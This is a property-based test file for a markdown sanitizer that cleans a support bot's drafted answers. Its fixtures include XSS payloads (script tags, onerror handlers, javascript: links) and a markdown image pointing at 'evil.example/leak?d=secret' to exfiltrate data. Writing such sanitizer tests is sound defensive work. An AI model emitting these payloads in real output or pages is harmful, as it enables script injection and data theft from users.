"""What a language model, or anybody, writes is harmless when it has gone through `limited_markdown`."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kilowatch.support.bot.draft import Draft
from kilowatch.support.domain.markdown import limited_markdown

MARKS = ["<", ">", "</", "<!--", "[", "]", "(", ")", "](", "![", "!", "]:", "`", "*", "a", "\u202e"]
WORDS = ["script", "img", " src=x", " onerror=alert(1)", "javascript:alert(1)", "\n", " "]
TARGETS = ["http://evil.example", "//evil", "/devices", "/api/x"]
PIECES = st.sampled_from([*MARKS, *WORDS, *TARGETS])
hostile = st.lists(PIECES, max_size=25).map("".join)


@given(hostile)
@example("<scr<b>ipt>alert(1)</scr</b>ipt>")
@example("[a](/devices)(http://evil.example)")
@example("!![a](/devices)")
def test_nothing_is_left_that_a_reader_of_markdown_takes_for_html_an_image_or_a_link_to_elsewhere(text):
    clean = limited_markdown(text)
    assert not re.search(r"<[A-Za-z/!?]", clean)
    assert "![" not in clean
    assert "]:" not in clean
    assert "][" not in clean
    for target in re.findall(r"\]\(([^)]*)\)?", clean):
        assert re.fullmatch(r"/([a-z][a-z0-9/-]*)?", target), clean
        assert not target.startswith(("/api/", "/internal"))
    assert "\u202e" not in clean


@given(hostile)
def test_what_is_clean_stays_as_it_is(text):
    assert limited_markdown(limited_markdown(text)) == limited_markdown(text)


@given(st.text(st.characters(categories=["L", "N"], include_characters=" .,:;*-–%"), max_size=200))
def test_ordinary_text_is_left_alone(text):
    assert limited_markdown(text) == text.strip()


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("Below <5 kWh, above 3 < 4.", "Below <5 kWh, above 3 < 4."),
        ("See [devices](/devices/7).", "See [devices](/devices/7)."),
        ("See [here](https://evil.example/?q=1).", "See [here] (https://evil.example/?q=1)."),
        ("![x](https://evil.example/leak?d=secret)", "[x] (https://evil.example/leak?d=secret)"),
        ("a<script>alert(1)</script>b", "ab"),
        ("a<img src=x onerror=alert(1)>b", "ab"),
        ("<a href='javascript:alert(1)'>click</a>", "click"),
        ("[x]: https://evil.example", "[x] : https://evil.example"),
        ("**bold**\n\n\n\n- list", "**bold**\n\n- list"),
    ],
)
def test_examples(text, clean):
    assert limited_markdown(text) == clean


@given(st.lists(PIECES | st.sampled_from(["word ", "kWh. "]), max_size=30))
def test_pieces_that_were_shown_never_have_to_be_taken_back(pieces):
    draft, shown = Draft(), ""
    for number, piece in enumerate(pieces):
        draft.said(piece)
        ready = draft.next_piece()
        if ready is not None:
            shown += ready[1]
        assert limited_markdown(shown) == shown.strip(), number
    assert draft.text.startswith(shown)


def test_after_another_beginning_nothing_more_is_shown_but_the_whole():
    draft = Draft()
    draft.said("Half an ")
    assert draft.next_piece() == (0, "Half an")
    draft.begin_again()
    draft.said("A whole answer. ")
    assert draft.next_piece() is None
    assert draft.text == "A whole answer."
